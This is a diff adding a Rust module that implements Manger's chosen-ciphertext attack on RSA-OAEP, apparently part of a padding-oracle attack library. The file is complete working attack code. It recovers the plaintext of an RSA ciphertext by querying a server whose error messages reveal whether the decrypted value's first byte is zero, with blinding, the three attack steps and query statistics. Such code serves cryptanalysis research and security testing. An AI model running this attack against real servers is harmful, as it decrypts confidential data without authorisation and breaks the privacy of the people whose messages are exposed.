@@ -0,0 +1,156 @@
+//! Manger's attack on RSA-OAEP encryption.
+//!
+//! The oracle tells whether a ciphertext decrypts to a number whose first byte is zero, that is
+//! smaller than `B = 2^(8 * (k - 1))` for a modulus of `k` bytes. Implementations decoding OAEP
+//! often leak it, by failing differently when this byte isn't zero than when the rest of the
+//! padding is wrong. As with [rsa_pkcs1](crate::rsa_pkcs1), multiplying the ciphertext by `f^e`
+//! multiplies the message by `f`, and each answer halves the range the message is in, so this
+//! only takes a little more queries than the modulus has bits. See "A Chosen Ciphertext Attack
+//! on RSA Optimal Asymmetric Encryption Padding (OAEP) as Standardized in PKCS #1 v2.0",
+//! J. Manger, 2001.
+//!
+//! Numbers, such as the modulus and the public exponent, are big-endian bytes.
+//!
+//! # Example
+//! ```no_run
+//! # fn send(_: &[u8]) -> &'static str { "" }
+//! # let (modulus, exponent, ciphertext) = ([0xffu8; 128], [1, 0, 1], [0u8; 128]);
+//! use padding_oracle::rsa_oaep;
+//!
+//! let message = rsa_oaep::decrypt(&modulus, &exponent, &ciphertext, |probe: &[u8]| {
+//!     // The server checks the first byte before the rest of the padding
+//!     send(probe) != "decryption error: leading byte"
+//! })?;
+//! # Ok::<(), padding_oracle::Error>(())
+//! ```
+
+use alloc::vec::Vec;
+
+use crate::bigint::BigUint;
+use crate::rsa::Target;
+pub use crate::rsa::{RsaOptions, RsaStats};
+use crate::{Error, PaddingOracle, Result};
+
+/// Recover the message a ciphertext decrypts to, padding included, from an oracle telling
+/// whether a ciphertext decrypts to a number whose first byte is zero.
+///
+/// The message is as long as the modulus, and still OAEP encoded: decoding it takes the hash
+/// function and the label it was encoded with. Ciphertexts whose first byte isn't zero are
+/// blinded first, which makes it possible to decrypt any number, at the cost of about 256 more
+/// queries.
+///
+/// This takes about as many queries as the modulus has bits, see [decrypt_with_stats]. Fails
+/// with [Error::LengthMismatch] if the ciphertext is not as long as the modulus, with
+/// [Error::TooShort] if the modulus is shorter than 2 bytes, with [Error::InconsistentOracle]
+/// if the answers of the oracle contradict each other, and with [Error::QueryBudgetExceeded]
+/// once it sent the [default](RsaOptions::max_queries) maximum of queries.
+pub fn decrypt(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+) -> Result<Vec<u8>> {
+    decrypt_with_stats(modulus, public_exponent, ciphertext, oracle).map(|(message, _)| message)
+}
+
+/// Same as [decrypt], but also returns statistics about the attack.
+pub fn decrypt_with_stats(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+) -> Result<(Vec<u8>, RsaStats)> {
+    attack(
+        modulus,
+        public_exponent,
+        ciphertext,
+        oracle,
+        &RsaOptions::default(),
+    )
+}
+
+/// Same as [decrypt], with custom options.
+pub fn decrypt_with_options(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+    options: &RsaOptions,
+) -> Result<Vec<u8>> {
+    attack(modulus, public_exponent, ciphertext, oracle, options).map(|(message, _)| message)
+}
+
+fn attack(
+    modulus: &[u8],
+    public_exponent: &[u8],
+    ciphertext: &[u8],
+    oracle: impl PaddingOracle,
+    options: &RsaOptions,
+) -> Result<(Vec<u8>, RsaStats)> {
+    let mut target = Target::new(modulus, public_exponent, ciphertext, oracle, 2, options)?;
+    let message = run(&mut target)?;
+
+    Ok((message.to_bytes_be(target.k), target.stats))
+}
+
+fn run(target: &mut Target<impl PaddingOracle>) -> Result<BigUint> {
+    let b = BigUint::power_of_two(8 * (target.k - 1));
+    let n = target.n.clone();
+
+    // The message must be smaller than B to begin with
+    let blinding = target.blind()?;
+
+    // Step 1: double f1 until f1 * m is at least B, so f1 / 2 * m is in [B / 2, B)
+    let mut f1 = BigUint::from_u64(2);
+    while target.valid(&f1)? {
+        f1 = &f1 + &f1;
+
+        if f1 > n {
+            return Err(Error::InconsistentOracle);
+        }
+    }
+    let half = f1.div_rem(&BigUint::from_u64(2)).0;
+
+    // Step 2: add f1 / 2 to f2 until f2 * m wraps around to less than B, so it is in [n, n + B)
+    let mut f2 = &(&n + &b).div_rem(&b).0 * &half;
+    let last = (&(&n + &b) * &f1).div_ceil(&b);
+    while !target.valid(&f2)? {
+        f2 = &f2 + &half;
+
+        if f2 > last {
+            return Err(Error::InconsistentOracle);
+        }
+    }
+
+    // Step 3: each answer halves the range the message is in
+    let mut low = n.div_ceil(&f2);
+    let mut high = (&n + &b).div_rem(&f2).0;
+
+    while low < high {
+        target.stats.iterations += 1;
+
+        // f3 * m spans about 2B, and is just above i * n at the low end
+        let f = (&b + &b).div_rem(&(&high - &low)).0;
+        let i = (&f * &low).div_rem(&n).0;
+        let i_n = &i * &n;
+        let f3 = i_n.div_ceil(&low);
+
+        if f3.is_zero() {
+            return Err(Error::InconsistentOracle);
+        }
+
+        if target.valid(&f3)? {
+            // f3 * m is in [i * n, i * n + B)
+            high = high.min((&i_n + &b).div_rem(&f3).0);
+        } else {
+            // f3 * m is in [i * n + B, i * n + 2B)
+            low = low.max((&i_n + &b).div_ceil(&f3));
+        }
+    }
+
+    if low != high {
+        return Err(Error::InconsistentOracle);
+    }
+
+    Ok(&(&low * &blinding) % &n)
+}